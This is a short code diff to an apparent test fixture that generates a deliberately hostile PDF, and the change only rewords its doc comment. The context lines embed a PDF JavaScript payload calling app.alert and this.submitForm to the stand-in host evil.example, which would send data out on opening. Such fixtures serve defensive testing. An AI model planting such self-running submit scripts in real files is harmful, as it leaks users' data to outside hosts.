@@ -1,4 +1,4 @@
-/** One page with a line of text, and with everything by which a pdf can act on its own or be acted on. */
+/** One page with a line of text, and with every feature by which a PDF can act on its own or be acted on. */
 export function hostilePdf(): Buffer {
   const script = 'app.alert\\(1\\); this.submitForm\\("https://evil.example/js"\\)'
   const content = 'BT /F1 36 Tf 40 120 Td (Hello from a hostile file) Tj ET'
